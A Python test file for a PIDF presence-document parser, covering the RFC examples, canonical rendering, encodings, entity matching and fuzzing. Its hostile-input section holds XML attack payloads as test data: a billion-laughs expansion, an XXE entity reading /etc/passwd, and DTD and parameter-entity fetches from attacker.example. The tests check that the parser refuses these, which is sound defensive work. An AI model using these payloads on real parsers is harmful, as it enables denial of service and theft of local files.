"""
Tests for parsing, validating and rendering single PIDF documents
(L{presence.pidf}): the RFC examples, hostile input, the entity check.
Composition is in test_pidf_compose.py.
"""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pidf_examples import (
    DM,
    PRESENTITY,
    RFC3863_DEFAULT,
    RFC3863_FULL,
    RFC3863_MUST_UNDERSTAND,
    RFC3863_PREFIXED,
    RFC4480,
    RFC_EXAMPLES,
    RPID,
    pidfDocuments,
    presence,
    semantic,
    tupleXml,
)
from presence.pidf import (
    DEFAULT_MAX_SIZE,
    PidfDocument,
    PidfError,
    entityKey,
    parsePidf,
    renderPidf,
    sameEntity,
)
from presence.pidf import parser as parserModule


def render(document: PidfDocument) -> bytes:
    return renderPidf(document.entity, document)


def assertGoodReason(reason: str) -> None:
    """
    A reason must be usable as a SIP reason phrase.
    """
    assert reason
    assert len(reason) <= 120
    assert re.fullmatch(r"[\x20-\x7e]+", reason), reason


# -- the RFC examples ----------------------------------------------------


@pytest.mark.parametrize("name", sorted(RFC_EXAMPLES))
def test_rfcExamplesParse(name: str) -> None:
    """
    Every RFC example parses, with its entity.
    """
    document = parsePidf(RFC_EXAMPLES[name], "pres:someone@example.com")
    assert document.entity == "pres:someone@example.com"
    assert document.tuples


@pytest.mark.parametrize("name", sorted(RFC_EXAMPLES))
def test_rfcExamplesRenderToTheSameContent(name: str) -> None:
    """
    Rendering keeps every element, attribute and text of the RFC examples
    (they hold nothing that normalisation removes), whatever prefixes they
    used.
    """
    data = RFC_EXAMPLES[name]
    rendered = render(parsePidf(data))
    original = semantic(data)
    result = semantic(rendered)
    if name == "rfc4480":
        # The person comes before the device in the schema order we emit.
        children = list(original[3])
        device, person = children[-2], children[-1]
        assert device[0] == "{%s}device" % DM and person[0] == "{%s}person" % DM
        children[-2:] = [person, device]
        original = original[:3] + (tuple(children),)
    assert result == original


@pytest.mark.parametrize("name", sorted(RFC_EXAMPLES))
def test_renderingIsAFixedPoint(name: str) -> None:
    """
    Rendered output parses again to the very same bytes.
    """
    once = render(parsePidf(RFC_EXAMPLES[name]))
    assert render(parsePidf(once)) == once


def test_prefixedAndDefaultNamespaceRenderIdentically() -> None:
    """
    RFC 3863 gives the same document with a prefix and with the default
    namespace; after normalisation they are the same bytes.
    """
    assert render(parsePidf(RFC3863_PREFIXED)) == render(parsePidf(RFC3863_DEFAULT))


def test_rfc3863Full() -> None:
    """
    The full RFC 3863 example: two tuples, their basic status, a top-level
    note, tuple-level notes kept inside the tuple, unknown namespaces
    prefixed ns1, ns2 in order of appearance.
    """
    document = parsePidf(RFC3863_FULL)
    assert [t.key for t in document.tuples] == ["bs35r9", "eg92n8"]
    assert [t.basic for t in document.tuples] == ["open", "open"]
    assert document.basic == "open"
    assert len(document.notes) == 1
    assert document.personId is None
    rendered = render(document).decode("utf-8")
    assert (
        'xmlns:ns1="urn:ietf:params:xml:ns:pidf:im" '
        'xmlns:ns2="http://id.example.com/presence/"'
    ) in rendered
    assert "<ns1:im>busy</ns1:im><ns2:location>home</ns2:location>" in rendered
    assert "<note xml:lang=\"fr\">Ne derangez pas, s'il vous plait</note>" in rendered
    assert rendered.endswith("<note>I'll be in Tokyo next week</note></presence>")


def test_rfc3863MustUnderstand() -> None:
    """
    A PIDF-namespace attribute cannot use the default namespace: it gets the
    declared prefix pidf. The presence-level extension is kept.
    """
    document = parsePidf(RFC3863_MUST_UNDERSTAND)
    assert [e.key for e in document.extensions] == [
        "http://id.mycompany.com/presence/}mytag"
    ]
    rendered = render(document).decode("utf-8")
    assert 'xmlns:pidf="urn:ietf:params:xml:ns:pidf"' in rendered
    assert '<ns1:ex1 pidf:mustUnderstand="1">val1</ns1:ex1>' in rendered
    assert semantic(rendered.encode("utf-8")) == semantic(RFC3863_MUST_UNDERSTAND)


def test_rfc4480() -> None:
    """
    The RPID example: tuples, the device keyed by deviceID, the person's
    eleven children keyed by kind, in schema order, the location-type
    namespace renamed ns1.
    """
    document = parsePidf(RFC4480)
    assert [t.key for t in document.tuples] == ["bs35r9", "ty4658", "eg92n8"]
    assert document.personId == "p1"
    assert [d.key for d in document.devices] == ["urn:device:0003ba4811e3"]
    keys = [child.key for child in document.personChildren]
    assert len(keys) == 11
    assert keys[0] == RPID + "}activities"
    assert keys[-2:] == [(DM + "}note", ""), DM + "}timestamp"]
    rendered = render(document).decode("utf-8")
    assert '<rpid:place-type><ns1:residence/></rpid:place-type>' in rendered
    assert 'xmlns:ns1="urn:ietf:params:xml:ns:location-type"' in rendered


# -- normalisation -------------------------------------------------------


def test_exactRendering() -> None:
    """
    The canonical form: XML declaration, root declarations, compact
    elements, sorted attributes, escaped text.
    """
    data = presence(
        '\n  <tuple id="a">\n    <status>\n      <basic>open</basic>\n    </status>\n'
        '    <contact z="1" priority="0.5">sip:bob@192.0.2.1</contact>\n'
        "    <note>fish &amp; chips &lt;3 {braces}</note>\n  </tuple>\n"
        '  <dm:person id="p">\n    <rpid:activities>\n      <rpid:away/>\n'
        "    </rpid:activities>\n  </dm:person>\n"
    )
    assert render(parsePidf(data)) == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<presence xmlns="urn:ietf:params:xml:ns:pidf"'
        b' xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"'
        b' xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid"'
        b' entity="sip:bob@example.test">'
        b'<tuple id="a"><status><basic>open</basic></status>'
        b'<contact priority="0.5" z="1">sip:bob@192.0.2.1</contact>'
        b"<note>fish &amp; chips &lt;3 {braces}</note></tuple>"
        b'<dm:person id="p"><rpid:activities><rpid:away/></rpid:activities>'
        b"</dm:person></presence>"
    )


def test_layoutDoesNotMatter() -> None:
    """
    Pretty-printing, attribute order, quotes, prefixes and empty-element
    syntax do not change the rendering.
    """
    compact = (
        b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test"'
        b' xmlns:r="urn:ietf:params:xml:ns:pidf:rpid"'
        b' xmlns:d="urn:ietf:params:xml:ns:pidf:data-model">'
        b'<tuple id="t"><status><basic>closed</basic></status></tuple>'
        b'<d:person id="p"><r:mood b="2" a="1"><r:happy/></r:mood></d:person></presence>'
    )
    pretty = b"""<?xml version='1.0' encoding='utf-8'?>
<!-- a comment -->
<p:presence xmlns:p='urn:ietf:params:xml:ns:pidf' entity='sip:bob@example.test'>
  <p:tuple id='t'>
    <p:status>
      <p:basic>
        closed
      </p:basic>
    </p:status>
  </p:tuple>
  <?some-pi ignored?>
  <dm:person xmlns:dm='urn:ietf:params:xml:ns:pidf:data-model' id='p'>
    <rp:mood xmlns:rp='urn:ietf:params:xml:ns:pidf:rpid' a='1' b='2'>
      <rp:happy></rp:happy>
    </rp:mood>
  </dm:person>
</p:presence>
"""
    assert render(parsePidf(compact)) == render(parsePidf(pretty))


def test_leafWhitespaceAndMixedContentKept() -> None:
    """
    Only white space next to child elements is layout; a leaf's white space
    and mixed-content text are content.
    """
    data = presence(
        tupleXml("t", extra='<x:a xmlns:x="urn:x"> </x:a><x:b xmlns:x="urn:x"> b <x:c/> </x:b>')
    )
    rendered = render(parsePidf(data))
    assert b"<ns1:a> </ns1:a><ns1:b> b <ns1:c/></ns1:b>" in rendered


def test_escapingRoundTrips() -> None:
    """
    Markup characters, braces, quotes, tabs, CR and non-ASCII text survive
    a render and a parse unchanged.
    """
    data = presence(
        tupleXml(
            "t",
            extra='<contact x="a&quot;b&#9;c&#10;d&#13;e{f}">'
            "&lt;&amp;&gt; {0} }}{{ &#13; caf\u00e9 \u2603</contact>",
        )
    )
    rendered = render(parsePidf(data))
    assert semantic(rendered) == semantic(data)
    assert render(parsePidf(rendered)) == rendered


def test_unqualifiedElementUndeclaresDefaultNamespace() -> None:
    """
    An element in no namespace (possible when PIDF is prefixed) is written
    with xmlns="", and PIDF elements below it get the pidf prefix.
    """
    data = (
        b'<p:presence xmlns:p="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test">'
        b'<p:tuple id="t"><p:status><p:basic>open</p:basic></p:status>'
        b"<plain><p:note>n</p:note><inner/></plain></p:tuple></p:presence>"
    )
    rendered = render(parsePidf(data))
    assert b'<plain xmlns=""><pidf:note>n</pidf:note><inner/></plain>' in rendered
    assert semantic(rendered) == semantic(data)


def test_notesDeduplicated() -> None:
    """
    Identical top-level notes are kept once; different languages are
    different notes.
    """
    data = presence(
        tupleXml("t") + "<note>hi</note><note>hi</note>"
        '<note xml:lang="fr">hi</note><note>other</note>'
    )
    document = parsePidf(data)
    assert [n.text for n in document.notes] == [
        "<note>hi</note>",
        '<note xml:lang="fr">hi</note>',
        "<note>other</note>",
    ]


def test_personsFoldedIntoOne() -> None:
    """
    Several persons in one document become one, with the first id and the
    children of all, extensions before notes before the timestamp.
    """
    data = presence(
        '<dm:person id="a"><dm:timestamp>2024-01-01T00:00:00Z</dm:timestamp>'
        '<dm:note>n</dm:note></dm:person>'
        '<dm:person id="b"><rpid:mood><rpid:happy/></rpid:mood></dm:person>'
    )
    document = parsePidf(data)
    assert document.personId == "a"
    assert [c.key for c in document.personChildren] == [
        RPID + "}mood",
        (DM + "}note", ""),
        DM + "}timestamp",
    ]


def test_deviceKeys() -> None:
    """
    Devices are keyed by their deviceID text (trimmed), or by their id when
    they lack one.
    """
    data = presence(
        '<dm:device id="d1"><dm:deviceID> mac:1 </dm:deviceID></dm:device>'
        '<dm:device id="d2"/>'
    )
    assert [d.key for d in parsePidf(data).devices] == ["mac:1", ("#id", "d2")]


# -- basic status --------------------------------------------------------


@pytest.mark.parametrize(
    "value, expected",
    [("open", "open"), ("closed", "closed"), (" Open\n", "open"), ("CLOSED", "closed")],
)
def test_basicNormalised(value: str, expected: str) -> None:
    document = parsePidf(presence(tupleXml("t", value)))
    assert document.tuples[0].basic == expected
    assert "<basic>{}</basic>".format(expected) in document.tuples[0].text


def test_basicUnknownTreatedAsAbsent() -> None:
    """
    baresip's <basic>unknown</basic> is accepted; the basic is dropped.
    """
    document = parsePidf(presence(tupleXml("t", "unknown")))
    assert document.tuples[0].basic is None
    assert document.basic is None
    assert document.tuples[0].text == '<tuple id="t"><status/></tuple>'


@pytest.mark.parametrize(
    "status",
    [
        "<status><basic>busy</basic></status>",
        "<status><basic></basic></status>",
        "<status><basic>open</basic><basic>open</basic></status>",
        "<status><basic><b/>open</basic></status>",
    ],
)
def test_badBasicRefused(status: str) -> None:
    with pytest.raises(PidfError) as excinfo:
        parsePidf(presence('<tuple id="t">' + status + "</tuple>"))
    assertGoodReason(excinfo.value.reason)


def test_statusWithoutBasic() -> None:
    document = parsePidf(presence('<tuple id="t"><status/></tuple>'))
    assert document.tuples[0].basic is None


# -- encodings -----------------------------------------------------------


def test_declaredEncodingHonoured() -> None:
    """
    A Latin-1 body saying so in its XML declaration is read as Latin-1;
    the output is UTF-8.
    """
    data = (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>'
        + presence(tupleXml("t") + "<note>caf\xe9</note>").split(b"?>", 1)[1]
        .decode("utf-8")
        .encode("latin-1")
    )
    rendered = render(parsePidf(data))
    assert "<note>caf\u00e9</note>".encode("utf-8") in rendered


def test_utf16WithBom() -> None:
    text = presence(tupleXml("t")).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    document = parsePidf(text.encode("utf-16"))
    assert document.tuples[0].key == "t"


# -- hostile and invalid input -------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test">
 <tuple id="t"><status><basic>open</basic></status><note>&lol9;</note></tuple>
</presence>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test">
 <tuple id="t"><status><basic>open</basic></status><note>&xxe;</note></tuple>
</presence>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/pidf.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test"/>
"""

PLAIN_DTD = b"""<!DOCTYPE presence>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test"/>
"""

HOSTILE = {
    "billion laughs": (BILLION_LAUGHS, "DTD"),
    "external entity": (EXTERNAL_ENTITY, "DTD"),
    "external DTD": (EXTERNAL_DTD, "DTD"),
    "parameter entity": (PARAMETER_ENTITY, "DTD"),
    "plain DTD": (PLAIN_DTD, "DTD"),
    "undefined entity": (presence(tupleXml("t", extra="<note>&xxe;</note>")), "malformed"),
    "huge body": (presence("<note>" + "x" * DEFAULT_MAX_SIZE + "</note>"), "too large"),
    "deep nesting": (
        presence(tupleXml("t", extra='<x:a xmlns:x="urn:x">' * 40 + "</x:a>" * 40)),
        "deeply",
    ),
    "many elements": (presence(tupleXml("t", extra="<rpid:a/>" * 2500)), "too many"),
    "empty": (b"", "empty"),
    "not XML": (b"SIP/2.0 200 OK\r\n\r\n", "malformed"),
    "JSON": (b'{"presence": "open"}', "malformed"),
    "truncated": (presence(tupleXml("t"))[:-20], "malformed"),
    "two roots": (presence(tupleXml("t")) + b"<presence/>", "malformed"),
    "invalid UTF-8": (presence(tupleXml("t", extra="<note>\xff</note>")).replace(b"\xc3\xbf", b"\xff\xfe"), "malformed"),
    "NUL byte": (presence(tupleXml("t")).replace(b"open", b"op\x00en"), "malformed"),
    "unknown encoding": (
        b'<?xml version="1.0" encoding="x-no-such-charset"?>' + presence("").split(b"?>", 1)[1],
        "unreadable",
    ),
    "wrong root": (b'<notify xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test"/>', "root"),
    "wrong namespace": (b'<presence xmlns="urn:example:pidf" entity="sip:bob@example.test"/>', "namespace"),
    "no namespace": (b'<presence entity="sip:bob@example.test"/>', "namespace"),
    "missing entity": (b'<presence xmlns="urn:ietf:params:xml:ns:pidf"/>', "entity"),
    "empty entity": (b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity=""/>', "entity"),
    "entity mismatch": (presence(tupleXml("t"), entity="sip:mallory@example.test"), "match"),
    "tuple without id": (presence("<tuple><status><basic>open</basic></status></tuple>"), "id"),
    "tuple with empty id": (presence('<tuple id=""><status/></tuple>'), "id"),
    "tuple without status": (presence('<tuple id="t"><contact>sip:x@y</contact></tuple>'), "status"),
    "duplicate tuple id": (presence(tupleXml("t") + tupleXml("t")), "duplicate"),
    "person without id": (presence("<dm:person/>"), "person"),
    "device without id": (presence("<dm:device><dm:deviceID>x</dm:deviceID></dm:device>"), "device"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostileInputRefused(name: str) -> None:
    """
    Every hostile or invalid body gives PidfError with a reason usable as a
    SIP reason phrase, and quickly.
    """
    data, hint = HOSTILE[name]
    started = time.perf_counter()
    with pytest.raises(PidfError) as excinfo:
        parsePidf(data, PRESENTITY)
    assert time.perf_counter() - started < 1.0
    assertGoodReason(excinfo.value.reason)
    assert hint.lower() in excinfo.value.reason.lower()
    assert str(excinfo.value) == excinfo.value.reason


def test_sizeLimitConfigurable() -> None:
    data = presence(tupleXml("t"))
    parsePidf(data, maxSize=len(data))
    with pytest.raises(PidfError, match="too large"):
        parsePidf(data, maxSize=len(data) - 1)


def test_elementAndDepthLimitsConfigurable() -> None:
    """
    The root counts as one element at depth one.
    """
    data = presence(tupleXml("t"))  # presence, tuple, status, basic
    parsePidf(data, maxElements=4, maxDepth=4)
    with pytest.raises(PidfError, match="too many"):
        parsePidf(data, maxElements=3)
    with pytest.raises(PidfError, match="deeply"):
        parsePidf(data, maxDepth=3)


def test_deepNestingWithinSizeIsCheap() -> None:
    """
    The deepest document that fits in the size limit is refused at the
    depth limit, without recursion trouble.
    """
    count = DEFAULT_MAX_SIZE // 8
    data = presence("<a>" * count + "</a>" * count)[:DEFAULT_MAX_SIZE]
    with pytest.raises(PidfError, match="deeply"):
        parsePidf(data)


def test_entityMismatchRefusedBeforeTheRest() -> None:
    """
    The entity is checked at the root start tag: a mismatching document is
    refused even though its body would also be malformed.
    """
    data = presence("<tuple>", entity="sip:mallory@example.test")
    with pytest.raises(PidfError, match="match"):
        parsePidf(data, PRESENTITY)


def test_strBodyIsAProgrammingError() -> None:
    with pytest.raises(TypeError):
        parsePidf(presence("").decode("utf-8"))  # type: ignore[arg-type]


def test_errorReasonSanitised() -> None:
    error = PidfError("bad\r\nthing \u2603" + "x" * 500)
    assertGoodReason(error.reason)
    assert error.reason.startswith("bad??thing ?")


def test_nameCacheBounded() -> None:
    """
    Names in the RPID namespace are cached across parses, but the sender
    chooses them: the cache stops growing at its bound.
    """
    for start in range(0, 6000, 1500):
        body = "".join("<rpid:n{}/>".format(i) for i in range(start, start + 1500))
        parsePidf(presence(tupleXml("t", extra=body)), maxElements=2000)
    assert len(parserModule._FIXED_NAMES) <= parserModule._FIXED_NAMES_MAX


# -- entity comparison ---------------------------------------------------


@pytest.mark.parametrize(
    "first, second",
    [
        ("pres:bob@example.test", "sip:bob@example.test"),
        ("sip:bob@example.test", "sips:bob@example.test"),
        ("sip:bob@Example.TEST", "sip:bob@example.test"),
        ("SIP:bob@example.test", "sip:bob@example.test"),
        ("sip:bob@example.test;transport=tcp", "sip:bob@example.test"),
        ("sip:bob@example.test?subject=x", "pres:bob@example.test"),
        ("<sip:bob@example.test>", "sip:bob@example.test"),
        ("sip:%62ob@example.test", "sip:bob@example.test"),
        ("sip:bob@[2001:DB8::1]:5070", "sip:bob@[2001:db8::1]:5070;lr"),
        ("sip:example.test", "pres:example.test"),
        ("tel:+15551234;phone-context=x", "tel:+15551234"),
    ],
)
def test_sameEntity(first: str, second: str) -> None:
    assert sameEntity(first, second)
    assert sameEntity(second, first)


@pytest.mark.parametrize(
    "first, second",
    [
        ("sip:Bob@example.test", "sip:bob@example.test"),
        ("sip:alice@example.test", "sip:bob@example.test"),
        ("sip:bob@example.test", "sip:bob@example.org"),
        ("sip:bob@example.test:5080", "sip:bob@example.test"),
        ("tel:+15551234", "sip:+15551234@example.test"),
        ("mailto:bob@example.test", "sip:bob@example.test"),
        ("bob@example.test", "bob@example.test"),
        ("", ""),
    ],
)
def test_differentEntity(first: str, second: str) -> None:
    assert not sameEntity(first, second)


def test_entityKey() -> None:
    assert entityKey("pres:bob@Example.Test;x=y") == ("sip", "bob", "example.test")
    assert entityKey("nothing") is None


def test_entityAcceptedWhenEquivalent() -> None:
    data = presence(tupleXml("t"), entity="pres:bob@EXAMPLE.test")
    assert parsePidf(data, "sip:bob@example.test;transport=tls").entity == (
        "pres:bob@EXAMPLE.test"
    )


# -- property tests ------------------------------------------------------


def _parseOrRefuse(data: bytes) -> None:
    """
    Parsing gives a document or PidfError; a document renders to a fixed
    point.
    """
    try:
        document = parsePidf(data)
    except PidfError as e:
        assertGoodReason(e.reason)
        return
    once = render(document)
    assert render(parsePidf(once)) == once


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=512))
def test_randomBytes(data: bytes) -> None:
    _parseOrRefuse(data)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=256))
def test_randomBytesAfterAValidStart(data: bytes) -> None:
    _parseOrRefuse(presence(tupleXml("t"))[:-11] + data)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pidfDocuments())
def test_generatedDocuments(data: bytes) -> None:
    _parseOrRefuse(data)
